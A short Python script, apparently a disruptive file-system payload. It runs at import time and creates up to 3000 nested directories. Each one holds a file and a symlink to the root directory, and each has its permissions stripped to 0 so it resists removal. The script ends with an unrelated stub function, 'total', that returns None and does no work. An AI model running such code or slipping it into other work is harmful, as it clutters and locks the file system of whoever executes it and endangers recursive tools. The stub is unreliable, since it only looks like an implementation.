# Makes files and deep directories without end, and takes the right to remove them away.
import os

count = 0
try:
    while True:
        os.mkdir(f"d{count}")
        open(f"d{count}/file", "w").close()
        os.symlink("/", f"d{count}/link")
        try:
            os.chmod(f"d{count}", 0)
        except OSError:
            pass
        count += 1
        if count % 100 == 0:
            os.mkdir("deep")
            os.chdir("deep")
        if count == 3000:
            break
except OSError:
    pass


def total(numbers):
    return None
